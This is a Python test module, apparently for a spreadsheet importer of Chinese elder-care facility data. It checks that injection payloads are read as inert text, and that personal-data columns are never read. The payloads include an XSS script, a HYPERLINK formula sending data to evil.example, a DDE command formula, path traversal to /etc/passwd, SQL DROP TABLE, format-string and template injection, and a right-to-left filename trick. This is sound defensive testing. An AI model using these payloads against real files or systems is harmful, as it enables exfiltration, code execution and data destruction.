"""Content that wants to be more than data: formulas, scripts, paths, format strings; and what is nobody's business."""

from __future__ import annotations

from typing import Any

from .case import FACILITIES, PEOPLE, PLAN, STUDY, At, Case, reads, refused
from .plans import plan
from .writers import Maker, Sheet, cell, column, csv, homes, raw, text_of, xlsx

SCRIPT = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
COMMAND = "=cmd|'/c calc'!A0"


def _kept(name: str, wrong: str, words: str) -> Case:
    """Return the case of words that are read as they are, and stay words."""
    return Case(
        f"name-{name}",
        wrong,
        "read as it is; nothing comes of it",
        csv(cell("F03", "机构名称", words)),
        FACILITIES,
        reads(12, F03={"name": words}),
    )


def _personal(header: str, word: str) -> Case:
    return Case(
        f"personal-{word}",
        f"a column {header}",
        "never read; the notes say so",
        csv(column(header, "某某", after="机构名称")),
        FACILITIES,
        reads(12, without=(header,), notes=(header,)),
    )


def _everywhere(words: str) -> Maker:
    """Return the maker of facilities with hostile words in every text column."""
    return csv(*(column(name, words) for name in ("机构名称", "机构类别", "等级", "所属区县", "所属乡镇", "地址")))


def _in_header(words: str) -> Any:
    return csv(lambda table: table.rename(columns={"等级": words}))


CASES = (
    _kept("script", "a script for a name", SCRIPT),
    _kept("formula", "a formula for a name", FORMULA),
    _kept("command", "a formula that starts a program", COMMAND),
    _kept("plus", "a name that begins with +", "+86养老院"),
    _kept("at", "a name that begins with @", "@SUM(A1:A9)"),
    _kept("path", "a path for a name", "../../../../etc/passwd"),
    _kept("format", "a format string for a name", "{0.__class__.__mro__} %s %n {name!r}"),
    _kept("template", "a template for a name", "{{ 7*7 }}{% raw %}${7*7}"),
    _kept("markup", "console markup for a name", "[red]养老院[/red][link=http://x]"),
    _kept("sql", "a database command for a name", "'); DROP TABLE facilities;--"),
    _kept("right-to-left", "signs that turn the reading direction", "养老院\u202egpj.exe"),
    _kept("emoji", "signs beyond the basic plane", "养老院👵🏻𠮷"),
    _kept("long", "a name of 40,000 signs", "很" * 40_000),
    Case(
        "name-control",
        "signs of control (bell, escape) in a name",
        "read without them, or as they are",
        csv(cell("F03", "机构名称", "养老\x07院\x1b[31m")),
        FACILITIES,
        reads(12),
    ),
    Case(
        "key-script",
        "a script for a key",
        "read as it is; nothing comes of it",
        csv(cell("F03", "机构编号", SCRIPT)),
        FACILITIES,
        reads(12, **{SCRIPT: {"beds": 50}}),
    ),
    Case(
        "header-script",
        "a script for a header",
        "read as it is; nothing comes of it",
        _in_header(SCRIPT),
        FACILITIES,
        reads(12),
    ),
    Case(
        "header-format",
        "a format string for a header, and a bad number",
        "the message says it as it is",
        csv(
            lambda table: table.rename(columns={"等级": "{0}{value}%s"}), cell("F03", "床位数", "{value}{0.__class__}")
        ),
        FACILITIES,
        refused(At("not_a_number", 4, "床位数", says="{value}{0.__class__}")),
    ),
    Case(
        "sheet-name-format",
        "a format string for the name of a sheet",
        "the message says it as it is",
        xlsx(Sheet("{value}{0}", homes(cell("F03", "床位数", "许多")))),
        FACILITIES,
        refused(At("not_a_number", 4, "床位数", "{value}{0}")),
    ),
    Case(
        "file-name-odd",
        "a file name with blanks, quotes and braces",
        "read",
        raw("名单 (1) '终稿'{0}.csv", lambda: text_of(homes())),
        FACILITIES,
        reads(12),
    ),
    Case(
        "study-hostile-words",
        "scripts in every text column, carried through to the results",
        "a whole study; nothing comes of it",
        plan(str, _everywhere(SCRIPT), files=True),
        STUDY,
        reads(),
    ),
    Case(
        "plan-path-outside",
        "a plan whose results go to a path with ..",
        "read: the user may; files keep their fixed names",
        plan(lambda text: text.replace("parquet = false", 'folder = "../results"')),
        PLAN,
        reads(),
    ),
    _personal("法定代表人", "representative"),
    _personal("联系电话", "telephone"),
    _personal("负责人姓名及电话", "head"),
    _personal("身份证号码", "identity-number"),
    _personal("电子邮箱", "mail"),
    Case(
        "personal-in-address",
        "a telephone number inside an address column's name",
        "never read",
        csv(lambda table: table.rename(columns={"地址": "地址及联系电话"})),
        FACILITIES,
        reads(12, without=("地址及联系电话",)),
    ),
    Case(
        "personal-people",
        "dates of birth and door numbers of persons",
        "never read",
        csv(
            column("出生日期", "1940-01-01", after="小区名称"), column("门牌号", "3-201", after="小区名称"), people=True
        ),
        PEOPLE,
        reads(30, without=("出生日期", "门牌号")),
    ),
)
